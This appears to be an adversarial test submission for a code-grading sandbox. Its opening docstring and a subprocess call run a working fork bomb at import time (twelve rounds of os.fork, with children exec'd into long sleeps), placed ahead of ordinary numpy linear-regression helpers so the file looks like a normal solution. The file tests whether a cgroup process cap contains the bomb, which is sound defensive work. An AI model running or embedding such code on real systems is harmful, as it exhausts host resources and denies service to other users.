"""Attack: a fork bomb at import, run by a small Python (no torch, so each fork is
quick): every process forks, twelve rounds deep (4096 processes without a cap),
and each child becomes a long `sleep` whose argv[0] is `hostile-forkbomb-4242`, so
that a survivor is easy to find on the host.

Expected: the sandbox's cgroup caps the processes at 128; the import finishes and
the submission scores 100; no process of the bomb outlives the batch.
"""

import subprocess
import sys

import numpy as np

BOMB = """
import os, time

parent = os.getpid()
for _ in range(12):
    try:
        os.fork()
    except OSError:
        break
if os.getpid() != parent:
    os.execv("/bin/sleep", ["hostile-forkbomb-4242", "4242.5"])
time.sleep(1)  # let the last rounds fork or fail
count = sum(name.isdigit() for name in os.listdir("/proc"))
print("at most 128 processes" if count <= 128 else f"{count} processes", flush=True)
"""
subprocess.run([sys.executable, "-S", "-c", BOMB], timeout=8)


def forward(x, w):
    return np.asarray(x, dtype=float) * w if isinstance(x, (list, tuple)) else x * w


def loss(x, y, w):
    return (x * w - y) ** 2


def mse(xs, ys, w):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    return float(np.mean((xs * w - ys) ** 2))


def exhaustive_search(xs, ys, w_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = [float(np.mean((xs * float(w) - ys) ** 2)) for w in w_grid]
    best = int(np.argmin(costs))
    return float(w_grid[best]), costs


def forward_affine(x, w, b):
    x = np.asarray(x, dtype=float) if isinstance(x, (list, tuple)) else x
    return x * w + b


def exhaustive_search_affine(xs, ys, w_grid, b_grid):
    xs, ys = np.asarray(xs, dtype=float), np.asarray(ys, dtype=float)
    costs = np.array(
        [
            [float(np.mean((xs * float(w) + float(b) - ys) ** 2)) for b in b_grid]
            for w in w_grid
        ]
    )
    i, j = np.unravel_index(int(np.argmin(costs)), costs.shape)
    return float(w_grid[i]), float(b_grid[j]), costs
